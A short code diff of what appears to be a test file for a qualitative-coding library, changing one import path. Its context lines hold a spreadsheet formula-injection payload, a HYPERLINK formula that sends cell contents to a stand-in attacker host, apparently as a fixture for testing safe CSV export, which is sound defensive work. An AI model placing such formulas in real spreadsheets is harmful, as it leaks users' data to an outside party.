@@ -20,7 +20,7 @@ from teichaku.coding import (
     parse_codings,
 )
 from teichaku.coding.answers import Answer, answers_to_csv, parse_answers
-from teichaku.coding.matrix import case_code_matrix
+from teichaku.tabulate.matrix import case_code_matrix
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
 BOOK = Codebook(
